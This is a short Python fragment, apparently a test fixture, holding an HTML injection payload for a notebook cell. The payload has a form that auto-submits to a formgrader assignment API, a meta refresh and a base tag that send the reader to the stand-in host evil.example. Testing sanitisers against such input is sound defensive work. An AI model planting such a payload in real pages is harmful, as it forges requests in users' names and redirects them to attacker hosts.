"""Forms that send something in the reader's name."""

CELLS = {
    "why": "<form action='/formgrader/api/assignment/tiny' method=post><input name=x autofocus><button>Next</button>"
    "</form><meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>"
}
